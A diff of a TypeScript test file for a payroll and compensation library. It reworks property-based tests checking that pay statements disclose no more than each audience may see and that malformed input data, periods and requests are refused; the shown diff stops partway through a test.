@@ -1,14 +1,8 @@
-import { readdirSync } from 'node:fs'
+import { readdirSync, readFileSync } from 'node:fs'
 import fc from 'fast-check'
 import { describe, expect, test, vi } from 'vitest'
 import { explainAward, giveAward, parseAward } from '../../src/bonus/index.js'
-import {
-  addDays,
-  nextPeriod,
-  parseHistory,
-  parsePeriod,
-  periodContaining,
-} from '../../src/calendar/index.js'
+import { addDays, parseHistory, parsePeriod, periodContaining } from '../../src/calendar/index.js'
 import {
   attribute,
   creditEvents,
@@ -66,9 +60,12 @@ import { isPolicyError } from '../../src/index.js'
 import { internalRate } from '../../src/investment/index.js'
 import { cascadeTarget, distribute, parseCascade, parseDistribution } from '../../src/kpi/index.js'
 import {
+  dataProblems,
+  explain as explainPay,
   type Line as PayLine,
   type Run as PayRun,
   parseData as parsePayData,
+  parsePeople as parsePayPeople,
   parseRun as parsePayRun,
   attribute as payAttribute,
   book as payBook,
@@ -78,46 +75,20 @@ import {
 } from '../../src/pay/index.js'
 import * as payroll from '../../src/payroll/index.js'
 import { verify as verifyRun, verifyChain as verifyRuns } from '../../src/payroll/index.js'
-import { describeProblems, PolicyError, problemsOf } from '../../src/problem/index.js'
+import { describeProblems, digestOf, PolicyError, problemsOf } from '../../src/problem/index.js'
 import { formatNumber, formatQuantity, fromScaled, money } from '../../src/quantity/index.js'
 import { correctRatings } from '../../src/rating/index.js'
-import {
-  type Audience,
-  type CompensationRun,
-  type DisclosedStatement,
-  digestOf,
-  explainStatement,
-  type JournalRow,
-  journal,
-  journalCsv,
-  parseAdjustments,
-  parseAwards,
-  parseBook,
-  parsePeople,
-  parsePools,
-  parseRun,
-  parseRunData,
-  parseStatement,
-  type RunData,
-  redact,
-  rerunCompensation,
-  runCompensation,
-  type Statement,
-  statementPage,
-  verify,
-  verifyChain,
-} from '../../src/run/index.js'
 import { allocateSql, selectSql } from '../../src/sql/index.js'
-import { bookPolicies, checkPolicy, describeReport, runDataOf } from '../../src/testing/index.js'
+import { checkPolicy, describeReport, payData, policyBooks } from '../../src/testing/index.js'
 import { duckdb } from '../conformance/engines.js'
 import { comparison, hourly, paid } from '../equity/company.js'
 import { found } from '../found.js'
 import * as career from '../growth/fixture.js'
 import { base as payBase, li as payLi } from '../pay/months.js'
 import * as firm from '../payroll/disclosure-company.js'
+import { bookJson, policy as shopPolicy } from '../payroll/policies.js'
 import { policy } from '../rating/campaign.js'
-import { ann, bookOf, book as company, operations, request, statementOf } from '../run/company.js'
-import { adjustments, awards, pools, yearEnd } from '../run/year-end.js'
+import { figuresOf, sale, shopOf } from './shop.js'
 
 type Path = readonly string[]
 
@@ -138,687 +109,429 @@ function replaced(value: unknown, [first, ...rest]: Path, by: unknown): unknown 
     : { ...own, [first]: inner }
 }
 
-describe('disclosure: what leaves the house says nothing of others, and no more than was verified', () => {
-  const audiences: readonly Audience[] = ['employee', 'manager', 'peer', 'auditor']
-  const given = { book: { ...company, policies: yearEnd() }, pools, awards, adjustments }
-  const [book, data, period] = request(given)
-  const run = runCompensation(book, data, period)
-  const li = statementOf(run, 'li')
-  const march = parsePeriod('2026-03')
-  const drawnRuns = bookPolicies()
-    .map(parseBook)
-    .chain((drawn) => runDataOf(drawn, march).map((own) => ({ book: drawn, data: own })))
+describe('payroll: what no parser has read pays nobody, and a view shows no more than its audience may see', () => {
+  const { about, company: of, data: known, dataOf: firmOf, key, march: paid, people: staff } = firm
+  const given = ['employee', 'manager', 'peer', 'auditor'] as const
+  const viewOf = (audience: string, run = paid, data = known) =>
+    payroll.disclose(of, data, run, { key, about, person: 'li', audience })
+  const drawnRuns = fc
+    .tuple(policyBooks('CNY').map(payroll.parseBook), payData('CNY').map(parsePayData))
+    .filter(([book, data]) => dataProblems(book, data).length === 0)
+    .map(([book, data]) => ({
+      ...{ book, data },
+      run: settlePay(book, data, { period: '2026-01', before: 'first' }),
+    }))
 
-  describe.each(audiences)('A3 the statement of the %s', (audience) => {
-    test.each(['en', 'zh-CN'] as const)('is rendered in %s', (locale) => {
-      for (const statement of run.statements) {
-        const shown = redact(statement, audience)
-        const text = renderText(explainStatement(shown, { locale }))
-        expect(text).not.toMatch(/undefined|null|NaN/)
-        expect(statementPage(shown, { locale })).toContain(`<html lang="${locale}">`)
-        expect(text.includes(statement.total.slice(-6))).toBe(audience !== 'peer')
-      }
-    })
-
-    test('names a rival to the auditor alone', () => {
-      const page = statementPage(redact(li, audience), { locale: 'en' })
-      expect(page.includes('Wang Wei')).toBe(audience === 'auditor')
-    })
-
-    test('A1 holds no digest, but for the auditor', () => {
-      const shown = redact(li, audience)
-      const digests = /[0-9a-f]{64}/
-      expect(digests.test(JSON.stringify(shown))).toBe(audience === 'auditor')
-      expect(digests.test(statementPage(shown, { locale: 'en' }))).toBe(audience === 'auditor')
-    })
-
-    test('A16 holds nothing that is not named', () => {
-      const shown = redact(noted(li), audience)
-      expect(JSON.stringify(shown)).not.toContain('§')
-      expect(shown).toEqual(redact(li, audience))
-      expect(statementPage(shown, { locale: 'zh-CN' })).not.toContain('§')
-    })
-
-    test('A3 shows no mark of what is hidden, in any drawn run', () => {
-      fc.assert(
-        fc.property(
-          drawnRuns,
-          fc.constantFrom('en' as const, 'zh-CN' as const),
-          (drawn, locale) => {
-            for (const statement of runCompensation(drawn.book, drawn.data, march).statements) {
-              const marked = noted(hiddenMarked(statement, audience))
-              // Labelled for an audience, but with all in it: the page shows no more than it may see.
-              const labelled: DisclosedStatement = { ...marked, audience }
-              for (const shown of [redact(marked, audience), labelled]) {
-                expect(statementPage(shown, { locale })).not.toContain('§')
-                expect(renderText(explainStatement(shown, { locale }))).not.toContain('§')
-              }
-              expect(redact(statement, 'auditor')).toEqual({ ...statement, audience: 'auditor' })
-            }
-          },
-        ),
-        { numRuns: 8 },
-      )
-    })
-  })
-
-  test('A3 a statement that names no audience is shown to nobody', () => {
-    const full = li as unknown as DisclosedStatement
-    for (const statement of [full, { ...full, audience: 'boss' as Audience }]) {
-      expect(() => explainStatement(statement, { locale: 'en' })).toThrow(PolicyError)
-      expect(() => statementPage(statement, { locale: 'en' })).toThrow(PolicyError)
+  test.each([
+    ['manager', ['read', 'why', 'entitled', 'settled']],
+    ['peer', ['read', 'why', 'entitled', 'settled']],
+  ])('A3 the %s sees no mark of what is hidden, in any drawn run', (audience, hidden) => {
+    const marked = (value: unknown): unknown => {
+      if (typeof value === 'string') return `¤${value}`
+      if (typeof value !== 'object' || value === null) return value
+      return Object.fromEntries(Object.entries(value).map(([name, own]) => [name, marked(own)]))
     }
-    expect(() => statementPage(full, { locale: 'en' })).toThrow(
-      'audience: undefined is nobody to whom a statement is shown. Give what redact(statement, audience) copies for "employee", "manager", "peer" or "auditor".',
+    const hiding = <T extends object>(each: T): T =>
+      Object.fromEntries(
+        Object.entries(each).map(([name, own]) => [
+          name,
+          hidden.includes(name) ? marked(own) : own,
+        ]),
+      ) as T
+    fc.assert(
+      fc.property(drawnRuns, fc.constantFrom('en', 'zh-CN'), ({ book, data, run }, locale) => {
+        const lines = run.lines.map((line) => hiding({ ...line, parts: line.parts.map(hiding) }))
+        for (const person of new Set(lines.map((line) => line.person))) {
+          const asked = { key, person, audience }
+          const view = payroll.disclose(book, data, { ...run, lines }, asked)
+          expect(JSON.stringify(view)).not.toContain('¤')
+          for (const format of ['text', 'markdown', 'html'] as const)
+            expect(payroll.renderView(view, { locale, format, book })).not.toContain('¤')
+        }
+      }),
+      { numRuns: 5 },
     )
-    expect(() => redact(li, 'constructor' as Audience)).toThrow('"constructor" is nobody')
   })
 
-  test('A16 a line of no known kind, and what an object inherits, are not copied', () => {
-    const odd = { ...li.lines[0], kind: 'constructor' } as unknown as Statement['lines'][number]
-    expect(redact({ ...li, lines: [odd] }, 'auditor').lines).toEqual([])
-    const inherited = Object.create({ clause: '§' }, Object.getOwnPropertyDescriptors(li.lines[1]))
-    expect(JSON.stringify(redact({ ...li, lines: [inherited] }, 'employee'))).not.toContain('§')
+  test('A16 holds nothing that is not named, in any drawn run', () => {
+    fc.assert(
+      fc.property(drawnRuns, fc.constantFrom(...given), ({ book, data, run }, audience) => {
+        for (const person of new Set(run.lines.map((line) => line.person))) {
+          const asked = { key, person, audience }
+          const view = payroll.disclose(book, data, noted(run), asked)
+          expect(JSON.stringify(view)).not.toContain('¤')
+          expect(view).toEqual(payroll.disclose(book, data, run, asked))
+        }
+      }),
+      { numRuns: 5 },
+    )
   })
 
-  test('A3 a copy from which more was taken still renders', () => {
-    const bare = li.lines.map(({ kind, source, label }) => ({ kind, source, label }))
-    const shown = { ...redact(li, 'auditor'), lines: bare } as DisclosedStatement
-    const { steps, how } = explainStatement(shown, { locale: 'en' })
-    expect(how).toEqual([])
-    expect(new Set(steps.map(({ value }) => value))).toEqual(new Set(['not shown']))
-    expect(steps.every((step) => step.how.length === 0 && step.steps.length === 0)).toBe(true)
+  test.each(['boss', 'constructor', '__proto__'])(
+    'A3 "%s" is nobody to whom a view is shown',
+    (to) => {
+      expect(found(() => viewOf(to))).toEqual([['unknown-audience', 'audience']])
+    },
+  )
+
+  test('A3 a view that names no audience is read by nobody', () => {
+    const { audience: _, ...view } = viewOf('employee')
+    expect(found(() => payroll.parseView(view))).toEqual([['missing', 'audience']])
+    const page = () =>
+      payroll.renderView(view as payroll.View, { locale: 'en', format: 'html', book: of })
+    expect(found(page)).toEqual([['missing', 'audience']])
+  })
+
+  const april = (before: PayRun, data = known) => settlePay(of, data, { period: '2026-04', before })
+  const others = (change: Partial<(typeof staff)['wang']>) =>
+    firmOf({ ...staff, wang: { ...staff.wang, ...change } as (typeof staff)['wang'] })
+  test.each<[string, PayRun, typeof known]>([
+    [
+      'a rival’s score',
+      firm.runOf(others({ score: '76' as '77' })),
+      others({ score: '76' as '77' }),
+    ],
+    [
+      'what another has sold',
+      firm.runOf(others({ sales: '641.00' as '640.00' })),
+      others({ sales: '641.00' as '640.00' }),
+    ],
+    [
+      'the pay of all others before',
+      april(
+        firm.runOf(others({ sales: '641.00' as '640.00' })),
+        others({ sales: '641.00' as '640.00' }),
+      ),
+      others({ sales: '641.00' as '640.00' }),
+    ],
+  ])('A1 A2 %s changes nothing that the employee is shown', (_, changed, data) => {
+    const plain = changed.period === '2026-04' ? april(paid) : paid
+    expect(changed.digest).not.toBe(plain.digest)
+    const shown = (view: payroll.View) => [view.head.shown, ...view.lines.map((line) => line.shown)]
+    for (const audience of ['employee', 'manager', 'peer'])
+      expect(shown(viewOf(audience, changed, data))).toEqual(shown(viewOf(audience, plain)))
+  })
+
+  const award = {
+    eligibility: [],
+    ranking: [{ figure: 'score', unit: 'points', direction: 'higher' }],
+    ties: 'share',
+    prizes: ['500', '200'],
+    budget: '700',
+  }
+  const weight = input('salary', money('CNY'), 2)
+  const book = shopOf({
+    plan: { quota: 'quota', floor: '100', gate: { kpi: 'kpi', atLeast: '0', keeps: '0.5' } },
+    payments: { recovery: { share: '0.5' }, draw: { kind: 'recoverable', amount: '500' } },
+    more: [
+      shopPolicy('award', 'star', { award }),
+      shopPolicy('adjustments', 'adjustments', {}),
+      shopPolicy('pool', 'profit', {
+        funding: { rounding: 'down', source: { kind: 'profit-share', rate: '0.05' } },
+        division: { ties: 'id', levels: [{ level: 'person', weight }] },
+        reads: { salary: { from: 'attribute', name: 'salary' } },
+      }),
+    ],
+  })
+  const whole = {
+    people: [
+      payLi(figuresOf({ kpi: '0.9', score: '96', quota: '1000.00' }, '2026-06')),
+      {
+        ...payLi({ employment: [{ from: '2026-06-16' }] }),
+        absences: [{ id: 'a', from: '2026-06-17', to: '2026-06-17', kind: 'ill', part: '0.5' }],
+        id: 'wu',
+      },
+    ],
+    groups: [{ of: 'company', ...figuresOf({ profit: '40000.00' }, '2026-06') }],
+    records: {
+      adjustments: [
+        { id: 'a1', on: '2026-06-30', person: 'li', amount: '-20.50', reason: 'Paid twice' },
+      ],
+    },
+    deals: {
+      events: [
+        sale('s', '2026-06-10', '3000.00'),
+        sale('b', '2026-06-20', '-100.00', { kind: 'refund', of: 's' }),
+      ],
+    },
+  }
+  const [first] = whole.people
+  const june = { period: '2026-06', before: 'first' } as const
+  const payOf = (json: unknown, request: object = june) =>
+    payroll.run(
+      book,
+      payroll.parseRunData(book, json).data,
+      request as Parameters<typeof payroll.run>[2],
+    )
+
+  test('A24 what was read is paid, as it is and as it was stored', () => {
+    const run = payOf(whole)
+    // Nobody gave Wu a KPI.
+    expect(run.withheld.map(({ component, owner }) => [component, owner.person])).toEqual([
+      ['plan', 'wu'],
+      ['payments', 'wu'],
+      ['payments.draw', 'wu'],
+    ])
+    expect(payOf(JSON.parse(JSON.stringify(whole)))).toEqual(run)
+  })
+
+  test.each<[string, object, string]>([
+    ['people without an id', { people: [{ ...first, id: undefined }] }, 'people[0].id'],
+    ['figures that are none', { people: [{ ...first, figures: {} }] }, 'people[0].figures'],
+    ['no attributes', { people: [{ ...first, attributes: undefined }] }, 'people[0].attributes'],
+    ['no employment', { people: [{ ...first, employment: null }] }, 'people[0].employment'],
+    ['a name that is a number', { people: [{ ...first, name: 5 }] }, 'people[0].name'],
+    ['a misspelt member', { people: [{ ...first, employmnet: [] }] }, 'people[0].employmnet'],
+    [
+      'events without attributes',
+      { deals: { events: [{ ...sale('s', '2026-06-10', '1'), attributes: null }] } },
+      'deals.events[0].attributes',
+    ],
+    ['a group of nothing', { groups: [{}] }, 'groups[0].of'],
+    ['groups that are none', { groups: { company: {} } }, 'groups'],
+    ['a group’s figures', { groups: [{ of: 'company', figures: {} }] }, 'groups[0].figures'],
+    ['a record of nothing', { records: { adjustments: [{}] } }, 'records.adjustments[0].id'],
+    ['records that are none', { records: { adjustments: null } }, 'records.adjustments'],
+    ['a table’s name', { records: { 'no name': [] } }, 'records.no name'],
+    [
+      'a day',
+      { people: [{ ...first, employment: [{ from: 'May' }] }] },
+      'people[0].employment[0].from',
+    ],
+    ['a misspelt key', { adjustmnets: [] }, 'adjustmnets'],
+    ['a key of the run before', { owed: {} }, 'owed'],
+  ])('A24 data are refused for %s', (_, change, path) => {
+    expect(problemsOf(() => payOf({ ...whole, ...change }))[0]?.path).toBe(path)
+  })
+
+  test.each([null, {}, [], 'x', undefined, { name: '2026-06' }, 5])(
+    'A24 a run is refused for the period %j',
+    (period) => {
+      expect(problemsOf(() => payOf(whole, { ...june, period }))[0]?.path).toMatch(/^period/)
+    },
+  )
+
+  test.each([null, {}, [], 'x', undefined, whole, { ...known }])(
+    'A24 a run is refused for data that were not read: %#',
+    (data) => {
+      expect(found(() => payroll.run(book, data as typeof known, june))).toEqual([
+        ['unread-data', 'data'],
+      ])
+    },
+  )
+
+  test.each([null, undefined, 'x', 5])('A24 a run is refused for the request %j', (request) => {
+    const { data } = payroll.parseRunData(book, whole)
+    expect(found(() => payroll.run(book, data, request as never))[0]?.[0]).toMatch(
+      /wrong-type|missing/,
+    )
   })
 
   test.each([
-    [
-      'a rival’s score',
-      {
-        awards: { ...awards, star: [awards.star[0], { id: 'wang', figures: { score: '95.99' } }] },
-      },
-    ],
-    [
-      'a rival’s weight in the award of teams',
-      {
-        awards: {
-          ...awards,
-          team: [awards.team[0], { ...awards.team[1], figures: { score: '12' } }],
-        },
-      },
-    ],
-    ['the pay of all others before', { before: { ...run, digest: digestOf('another firm') } }],
-  ])('A1 A2 %s changes nothing that the employee holds', (_, change) => {
-    const [, changed] = request({ ...given, ...change } as typeof given)
-    const later = 'before' in change ? nextPeriod(period) : period
-    const figures = (people: typeof data.people) =>
-      people.map((each) => ({
-        ...each,
-        figures: { ...each.figures, [later.name]: each.figures[period.name] ?? {} },
-      }))
-    const pay = (own: typeof data) =>
-      statementOf(
-        runCompensation(book, { ...own, people: figures(own.people), asOf: later.to }, later),
-        'li',
-      )
-    const plain = 'before' in change ? { ...data, before: run } : data
-    const [first, second] = [pay(plain), pay(changed)]
-    expect(second.digest).not.toBe(first.digest)
-    for (const audience of ['employee', 'manager', 'peer'] as const)
-      expect(redact(second, audience)).toEqual(redact(first, audience))
+    [null, ''],
+    [{ person: 'li' }, 'audience'],
+    [{ person: 'li', audience: undefined }, 'audience'],
+    [{ audience: 'peer' }, 'person'],
+    [{ person: 'li', viewer: null }, 'viewer'],
+    [{ person: 'li', viewer: { roles: 'hr' } }, 'viewer.roles'],
+  ])('A24 nothing is disclosed for the request %j', (request, path) => {
+    const { data } = payroll.parseRunData(book, whole)
+    const run = payroll.run(book, data, june)
+    const asked = request === null ? null : { key: 'k'.repeat(32), ...request }
+    expect(problemsOf(() => payroll.disclose(book, data, run, asked as never))[0]?.path).toBe(path)
   })
 
-  describe('A17 a run made again', () => {
-    const changed = (change: (own: Statement) => object, digested: boolean): CompensationRun => ({
-      ...run,
-      statements: run.statements.map((each) => {
-        if (each.person !== 'li') return each
-        const { digest, ...content } = { ...each, ...change(each) }
-        return { ...content, digest: digested ? digestOf(content) : digest }
-      }),
-    })
-    const greedy = () => ({ total: '99999.00' })
-    const line = ({ lines }: Statement) => ({
-      lines: lines.map((each, i) => (i === 0 ? { ...each, amount: '99999.00' } : each)),
-    })
-    test.each<[string, CompensationRun]>([
-      ['a total with a new digest', changed(greedy, true)],
-      ['a total with the old digest', changed(greedy, false)],
-      ['a line with a new digest', changed(line, true)],
-      ['a line with the old digest', changed(line, false)],
-      ['what is owed', { ...run, owed: { li: { carried: [], draw: '500.00' } } }],
-      ['what was settled', { ...run, settlements: run.settlements.slice(1) }],
-    ])('takes over nothing that does not hold: %s', (_, tampered) => {
-      const again = rerunCompensation(tampered, book, data)
-      expect(again).toEqual(run)
-      expect(verifyChain([again])).toEqual([])
-    })
-
-    test('takes over no statement whose digest does not hold, in a run whose digest does', () => {
-      const again = rerunCompensation(changed(greedy, false), book, data)
-      expect(again.statements).toEqual(run.statements)
-    })
-
-    test('takes over what holds', () => {
-      const again = rerunCompensation(run, book, data)
-      expect(again.statements.every((each, i) => each === run.statements[i])).toBe(true)
-    })
-  })
-
-  describe('A24 data that no parser has read', () => {
-    const whole = JSON.parse(JSON.stringify({ ...data, before: runOfMay() })) as typeof data
-    const paths = pathsIn({ data: whole, period }).filter((path) => path.length > 1)
-
-    test.each<[string, object, string]>([
-      ['people without an id', { people: [{ ...data.people[0], id: undefined }] }, 'people[0].id'],
-      [
-        'people without figures',
-        { people: [{ ...data.people[0], figures: undefined }] },
-        'people[0].figures',
-      ],
-      [
-        'events without attributes',
-        { events: [{ ...data.events[0], attributes: null }] },
-        'events[0].attributes',
-      ],
-      ['a pool of nothing', { pools: { profit: {} } }, 'pools.profit.figures'],
-      ['a pool that is a list', { pools: { profit: [] } }, 'pools.profit'],
-      [
-        'a member without figures',
-        { pools: { profit: { figures: {}, members: [{ id: 'a' }] } } },
-        'pools.profit.members[0].figures',
-      ],
-      ['an entry without figures', { awards: { star: [{ id: 'li' }] } }, 'awards.star[0].figures'],
-      ['entries that are none', { awards: { star: null } }, 'awards.star'],
-      [
-        'a label of one language',
-        { awards: { star: [{ id: 'li', label: { en: 'Li' }, figures: {} }] } },
-        'awards.star[0].label.zh-CN',
-      ],
-      [
-        'a label that is a number',
-        { awards: { star: [{ id: 'li', label: 5, figures: {} }] } },
-        'awards.star[0].label',
-      ],
-      ['a run before of nothing', { before: {} }, 'before'],
-      ['no day', { asOf: undefined }, 'asOf'],
-      ['a misspelt key', { adjustmnets: [] }, 'adjustmnets'],
-      ['a key of the run before', { owed: {} }, 'owed'],
-    ])('is refused for %s', (_, change, path) => {
-      const wrong = () => runCompensation(book, { ...data, ...change } as typeof data, period)
-      expect(problemsIn(wrong)[0]?.path).toBe(path)
-    })
-
-    test.each([null, {}, [], 'x', undefined, { name: '2026-06' }])(
-      'is refused for the period %j',
-      (odd) => {
-        const wrong = () => runCompensation(book, data, odd as unknown as typeof period)
-        expect(problemsIn(wrong)[0]?.path).toMatch(/^period/)
-      },
-    )
-
-    test('is refused for a period of other days than its name means', () => {
-      const long = { ...period, to: '2026-12-31' }
-      expect(() => runCompensation(book, data, long)).toThrow(
-        'period: "2026-06" runs from 2026-06-01 to 2026-06-30 in the calendar of the book, not as given.',
-      )
-      expect(() => runCompensation(book, data, { ...period, name: 'June' })).toThrow(/^period/)
-      expect(() => runCompensation(book, null as unknown as typeof data, period)).toThrow(
-        PolicyError,
-      )
-    })
-
-    test('is refused for members of members without end', () => {
-      type Member = { id: string; figures: object; members: Member[] }
-      const endless: Member = { id: 'a', figures: { share: 1, months: 1 }, members: [] }
-      endless.members.push(endless)
-      const profit = { figures: { profit: '1' }, members: [endless] }
-      const wrong = () =>
-        runCompensation(book, { ...data, pools: { profit } } as typeof data, period)
-      expect(problemsIn(wrong).map(({ code }) => code)).toContain('unread-members')
-    })
-
-    test('gives pay or a PolicyError, and nothing else, whatever is changed in it', () => {
-      const odd = fc.constantFrom<unknown>(undefined, null, {}, [], 'x', '', 5, true, [null], {
-        x: null,
-      })
-      fc.assert(
-        fc.property(fc.constantFrom(...paths), odd, (path, value) => {
-          const changed = replaced({ data: whole, period }, path, value) as {
-            data: typeof data
-            period: typeof period
-          }
-          orProblems(() => runCompensation(book, changed.data, changed.period))
-        }),
-        { numRuns: 120 },
-      )
-    })
-
-    function runOfMay(): CompensationRun {
-      const may = parsePeriod('2026-05')
-      return { ...run, period: may, asOf: may.to, settlements: [] }
-    }
-  })
-
-  describe('A24 what is stored', () => {
-    const json = (value: unknown) => JSON.parse(JSON.stringify(value)) as never
-
-    test('is read as it was written, of every drawn run', () => {
-      fc.assert(
-        fc.property(drawnRuns, (drawn) => {
-          const paid = runCompensation(drawn.book, drawn.data, march)
-          expect(parseRun(json(paid))).toEqual(paid)
-          expect(parseRunData(json(drawn.data))).toEqual(drawn.data)
-          expect(parseRunData(json({ ...drawn.data, before: paid })).before).toEqual(paid)
-          for (const statement of paid.statements)
-            expect(parseStatement(json(statement))).toEqual(statement)
-        }),
-        { numRuns: 8 },
-      )
-      const { statements, unpaid, unread, totals, budgets, before, ...state } = run
-      expect([statements, unpaid, unread, totals, budgets, before]).toHaveLength(6)
-      expect(parseRunData(json({ ...data, before: state })).before).toEqual(state)
-      expect(parseRun(json(run))).toEqual(run)
-    })
-
-    test.each<[string, (own: unknown) => unknown, unknown, string]>([
-      ['a pool', parsePools, { profit: { ...pools.profit, figuers: {} } }, 'profit.figuers'],
-      [
-        'a member',
-        parsePools,
-        { profit: { figures: {}, members: [{ id: 'a', figures: {}, wieght: 1 }] } },
-        'profit.members[0].wieght',
-      ],
-      ['a pool’s name', parsePools, { 'no name': pools.profit }, 'no name'],
-      ['pools', parsePools, [], ''],
-      [
-        'a number',
-        parsePools,
-        { profit: { figures: { profit: '1e5' }, members: [] } },
-        'profit.figures.profit',
-      ],
-      [
-        'an entry',
-        parseAwards,
-        { star: [{ id: 'li', figures: {}, form: '2020-01-01' }] },
-        'star[0].form',
-      ],
-      ['a day', parseAwards, { star: [{ id: 'li', figures: {}, from: 'May' }] }, 'star[0].from'],
-      ['entries', parseAwards, { star: {} }, 'star'],
-      ['data', parseRunData, { ...data, adjustmnets: [] }, 'adjustmnets'],
-      ['data of nothing', parseRunData, null, ''],
-      ['a run', parseRun, { ...run, owde: {} }, 'owde'],
-      ['a run without totals', parseRun, { ...run, totals: {} }, 'totals.departments'],
-      ['a statement', parseStatement, { ...li, hrNote: 'x' }, 'hrNote'],
-      [
-        'a line',
-        parseStatement,
-        { ...li, lines: [{ ...li.lines[0], note: 'x' }] },
-        'lines[0].note',
-      ],
-      [
-        'a trace',
-        parseStatement,
-        { ...li, lines: [{ ...li.lines[0], trace: {} }] },
-        'lines[0].trace.node',
-      ],
-    ])('is refused for a misspelt or a wrong part: %s', (_, parse, value, path) => {
-      expect(problemsIn(() => parse(value)).map((each) => each.path)).toContain(path)
-    })
-
-    test('of a statement is verified, or refused when it is read', () => {
-      const paths = pathsIn(li).filter((path) => path.length > 0)
-      const odd = fc.constantFrom<unknown>(undefined, null, {}, [], 'x', 5)
-      fc.assert(
-        fc.property(fc.constantFrom(...paths), odd, (path, value) => {
-          orProblems(() => verify(parseStatement(replaced(li, path, value)), book, data))
-          orProblems(() =>
-            verifyChain([parseRun({ ...run, statements: [replaced(li, path, value)] })]),
-          )
-        }),
-        { numRuns: 40 },
-      )
-    })
-  })
-
-  describe('A25 an amount that skipped its parser', () => {
-    test.each(['0x10', '1e400', '1e9000000', ' 5', '+5', '.5', `1${'0'.repeat(60)}`, 'Infinity'])(
-      '%s is refused at once',
-      (amount) => {
-        const [correction] = adjustments
-        const odd = { ...data, adjustments: [{ ...correction, amount } as (typeof adjustments)[0]] }
-        expect(problemsIn(() => runCompensation(book, odd, period))[0]?.path).toBe(
-          'adjustments[0].amount',
-        )
-        const [first] = data.events
-        const event = { ...first, amount } as (typeof data.events)[0]
-        const sales = { ...data, events: [event] }
-        expect(problemsIn(() => runCompensation(book, sales, period))[0]?.path).toBe(
-          'events[0].amount',
-        )
-      },
-    )
-
-    test.each<[object, string]>([
-      [{ pay: { base: [{ from: '2020-01-01', value: '-9000.00' }] } }, 'pay.base[0].value'],
-      [
-        {
-          pay: {
-            base: [
-              { from: '2020-01-01', value: '9000.00' },
-              { from: '2026-06-11', value: '-0.01' },
-            ],
-          },
-        },
-        'pay.base[1].value',
-      ],
-      [{ targetBonus: '-1' }, 'targetBonus'],
-    ])('of pay below zero pays nobody: %j', (change, path) => {
-      const people = data.people.map((each) => (each.id === 'ann' ? { ...each, ...change } : each))
-      const { unpaid } = runCompensation(book, { ...data, people }, period)
-      expect(unpaid.map(({ person, problems }) => [person, problems[0]?.path])).toEqual([
-        ['ann', path],
+  test('A24 data without end are refused', () => {
+    const person: { attributes?: object } = { ...first }
+    person.attributes = { salary: [person] }
+    const row: Record<string, unknown> = { id: 'a', on: '2026-06-30', person: 'li', amount: '1' }
+    row['more'] = row
+    for (const endless of [{ people: [person] }, { records: { adjustments: [row] } }])
+      expect(problemsOf(() => payOf({ ...whole, ...endless })).map(({ code }) => code)).toEqual([
+        'too-deep',
       ])
-    })
-
-    test('that was read is paid', () => {
-      const read = parseAdjustments(JSON.parse(JSON.stringify(adjustments)))
-      expect(runCompensation(book, { ...data, adjustments: read }, period)).toEqual(run)
-    })
   })
 
-  describe('A5 an award of which all win', () => {
-    const terms = {
-      id: 'present',
-      currency: 'CNY',
-      eligibility: [],
-      ranking: [{ figure: 'days', unit: 'count', direction: 'higher' }],
-      prizes: ['100'],
-      budget: '100000',
-    }
-    const entries = (many: number, days: (i: number) => number) =>
-      Array.from({ length: many }, (_, i) => ({
-        id: `p${String(i).padStart(5, '0')}`,
-        figures: { days: days(i) },
-      }))
-    const asOf = '2026-06-30'
-    const give = (change: object, many: number, days: (i: number) => number = () => 21) =>
-      giveAward(parseAward({ ...terms, ...change }), { asOf, entries: entries(many, days) })
-    const textOf = (result: ReturnType<typeof give>, id: string, locale: 'en' | 'zh-CN' = 'en') =>
-      renderText(explainAward(result, id, { locale }))
-
-    test('names five, and counts the others', () => {
-      const result = give({ ties: 'all-win' }, 1_001)
-      expect(textOf(result, 'p00003')).toContain(
-        'Equal in every criterion: p00000, p00001, p00002, p00004, p00005 and 995 others\n',
-      )
-      expect(textOf(result, 'p00003', 'zh-CN')).toContain('p00004、p00005，另有 995 名\n')
-      expect(textOf(give({ ties: 'all-win' }, 7), 'p00000')).toContain('p00005 and 1 other\n')
-      expect(textOf(give({ ties: 'all-win' }, 6), 'p00000')).toMatch(/p00005$/m)
-    })
-
-    test.each([
-      ['all win, beyond the budget', { ties: 'all-win' }, () => 21, '50.00'],
-      [
-        'all share as many prizes',
-        { ties: 'share', prizes: Array(2_000).fill('10') },
-        () => 21,
-        '10.00',
-      ],
-      ['all share one prize', { ties: 'share' }, () => 21, '0.05'],
-      ['no two are equal', { ties: 'all-win' }, (i: number) => 9_999 - i, '100.00'],
-    ])('takes work and text by the number of entries: %s', (_, change, days, prize) => {
-      const result = give(change, 2_000, days)
-      expect(result.standings[0]?.prize).toBe(prize)
-      const texts = result.standings.map(({ id }) => textOf(result, id))
-      expect(Math.max(...texts.map(({ length }) => length))).toBeLessThan(500)
-      expect(JSON.stringify(result).length).toBeLessThan(
-        2_000 * 300 + JSON.stringify(change).length,
-      )
-    })
-
-    test('is paid to 400 people in statements of a size that does not grow with them', () => {
-      const everybody = entries(400, () => 21)
-      const people = everybody.map(({ id }) => ({
-        id,
-        name: `Name of ${id}`,
-        department: 'operations',
-        employment: { from: '2020-01-01' },
-        pay: { base: [{ from: '2020-01-01', value: '9000.00' }] },
-        figures: { quota: '20000.00' },
-      }))
-      const star = { ...yearEnd()[6], id: 'star', kind: 'award' }
-      const versions = [
-        { from: '2026-06-01', reason: 'x', terms: { ...terms, id: 'star', ties: 'all-win' } },
-      ]
-      const policies = [...yearEnd().filter(({ kind }) => kind !== 'award'), { ...star, versions }]
-      const [own, whole, june] = request({
-        book: { ...company, policies },
-        people,
-        events: [],
-        awards: { star: everybody },
-      })
-      const paid = runCompensation(own, whole, june)
-      expect(paid.totals.company.byKind.award).toBe('40000.00')
-      const sizes = paid.statements.map((each) => JSON.stringify(each.lines.at(-1)).length)
-      expect(Math.max(...sizes)).toBeLessThan(2_000)
-      expect(JSON.stringify(paid.statements[7])).toContain('Name of p00001')
-    })
-
-    test('of sales as well: a contest in which all are equal', () => {
-      const contest = parseContest({
-        id: 'c',
-        currency: 'CNY',
-        credit: 'direct',
-        from: '2026-06-01',
-        to: '2026-06-30',
-        prizes: ['1000', '10'],
-      })
-      const credits = entries(1_500, () => 1).map(({ id }) => ({
-        event: id,
-        kind: 'order' as const,
-        effective: '2026-06-02',
-        recorded: '2026-06-02',
-        dealt: '2026-06-02',
-        booked: '2026-06-02',
-        deal: id,
-        credit: 'direct',
-        person: id,
-        amount: '5.00',
-        currency: 'CNY' as const,
-        figures: {},
-        attributes: {},
